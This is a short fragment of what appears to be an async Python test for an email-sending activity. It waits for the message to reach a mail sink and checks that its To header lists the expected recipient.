    await ActivityEnvironment().run(mailer.send_email, request)
    raw = await eventually(lambda: delivered(mail_sink, seen, message_id(key)), 10.0, "the email at the sink")
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert [recipient.addr_spec for recipient in message["To"].addresses] == [address], message["To"]
